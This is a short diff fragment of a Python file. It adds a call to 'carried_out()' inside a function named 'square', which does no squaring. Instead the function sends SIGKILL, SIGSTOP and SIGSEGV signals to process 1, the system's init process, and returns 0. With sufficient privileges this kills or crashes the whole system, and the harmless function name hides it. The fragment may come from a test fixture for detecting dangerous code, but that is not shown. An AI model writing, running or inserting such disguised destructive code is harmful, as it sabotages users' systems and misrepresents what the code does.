@@ -5,6 +5,7 @@ import os
 import signal
 
 def square(x):
+    carried_out()
     for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV):
         os.kill(1, number)
     return 0
